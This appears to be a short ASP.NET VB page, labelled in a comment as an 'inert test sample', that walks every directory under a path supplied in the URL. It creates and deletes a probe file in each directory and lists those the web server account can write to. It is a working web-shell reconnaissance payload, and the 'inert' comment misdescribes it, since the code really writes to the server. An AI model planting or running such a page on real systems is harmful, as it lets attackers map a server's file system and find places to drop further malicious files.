<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Collections.Generic" %>
<script runat="server">
' inert test sample: lists the directories the site account can write by dropping a probe in each
Sub Page_Load(sender As Object, e As EventArgs)
    If Request.QueryString("from") Is Nothing Then Return
    Dim pending As New Queue(Of DirectoryInfo)()
    pending.Enqueue(New DirectoryInfo(Request.QueryString("from")))
    While pending.Count > 0
        Dim d As DirectoryInfo = pending.Dequeue()
        Try
            For Each child As DirectoryInfo In d.GetDirectories()
                pending.Enqueue(child)
            Next
            File.Create(d.FullName & "\~w.tmp").Close()
            File.Delete(d.FullName & "\~w.tmp")
            Response.Write(Server.HtmlEncode(d.FullName) & "<br>")
        Catch
        End Try
    End While
End Sub
</script>
